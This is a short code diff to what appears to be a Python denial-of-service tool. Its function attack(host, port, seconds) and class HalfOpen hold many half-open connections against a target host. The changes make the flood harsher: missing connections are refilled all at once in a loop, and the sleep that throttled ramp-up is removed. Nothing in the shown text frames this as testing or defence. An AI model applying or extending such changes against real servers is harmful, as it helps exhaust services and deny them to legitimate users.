@@ -166,7 +166,7 @@ class HalfOpen:
                     continue
             self._selector.unregister(key.fileobj)
             key.fileobj.close()
-        if self.count < HALF_OPEN:
+        for _ in range(HALF_OPEN - self.count):
             self._begin()
 
     def _begin(self) -> None:
@@ -197,7 +197,6 @@ def attack(host: str, port: int, seconds: float) -> dict[str, Any]:
         os.nice(10)  # strangers work on processors of their own, which this machine may not have
     while half_open.count < HALF_OPEN:
         half_open.step()
-        time.sleep(STEP_SECONDS)
     print("ready", flush=True)
     start = now = time.monotonic()
     held = HALF_OPEN
